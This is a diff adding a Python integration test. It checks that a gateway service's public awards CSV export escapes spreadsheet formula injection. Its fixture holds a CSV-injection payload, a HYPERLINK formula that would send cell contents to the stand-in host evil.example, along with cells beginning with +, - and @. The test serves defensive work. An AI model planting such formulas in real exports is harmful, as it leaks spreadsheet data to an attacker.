@@ -1,0 +1,69 @@
+"""GatewayService in a nameko container (real RabbitMQ, FerretDB, HTTP): the
+public palmarès CSV never carries a live spreadsheet formula, whatever a
+collectivité is called (services/common/csvsafe.py)."""
+
+import csv
+import io
+import uuid
+
+import pytest
+import requests
+from nameko.rpc import rpc
+
+from services.common.mongo import make_client
+from services.gateway.app import GatewayService
+from tests.support.net import free_port
+
+INJECTED = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'
+
+
+class FakeAwards:
+    """Answers the palmarès rows as the awards service would, with a hostile name."""
+
+    name = "awards"
+
+    @rpc
+    def palmares_rows(self, year, role):
+        return [
+            [
+                "annee",
+                "code_insee",
+                "collectivite",
+                "categorie",
+                "region",
+                "departement",
+                "arobases",
+                "mentions",
+            ],
+            [year, "25056", INJECTED, "ville", "+Bourgogne", "-25", 4, "@Télétravail"],
+            [year, "38185", "Grenoble", "ville", "Auvergne-Rhône-Alpes", "38", 5, ""],
+        ]
+
+
+@pytest.fixture
+def gateway(container_factory, rabbit_config, mongodb_uri):
+    prefix = f"it_gw_{uuid.uuid4().hex[:8]}_"
+    port = free_port()
+    config = dict(
+        rabbit_config,
+        MONGODB_URI=mongodb_uri,
+        MONGODB_DATABASE_PREFIX=prefix,
+        WEB_SERVER_ADDRESS=f"127.0.0.1:{port}",
+        LABEL_ADMIN_TOKEN="it-admin-" + "a" * 32,
+        LABEL_SECRET_KEY="it-secret-" + "s" * 32,
+        GATEWAY_REQUEST_TIMEOUT=10,
+    )
+    container_factory(FakeAwards, config).start()
+    container_factory(GatewayService, config).start()
+    yield f"http://127.0.0.1:{port}"
+    make_client(mongodb_uri).drop_database(f"{prefix}gateway")
+
+
+def test_the_palmares_csv_neutralises_formulas(gateway):
+    response = requests.get(f"{gateway}/api/v1/campaigns/2031/palmares.csv", timeout=30)
+    assert response.status_code == 200, response.text
+    assert response.headers["Content-Type"].startswith("text/csv")
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8"), newline="")))
+    assert rows[1] == ["2031", "25056", "'" + INJECTED, "ville", "'+Bourgogne", "'-25", "4", "'@Télétravail"]
+    assert rows[2][2] == "Grenoble"
+    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)
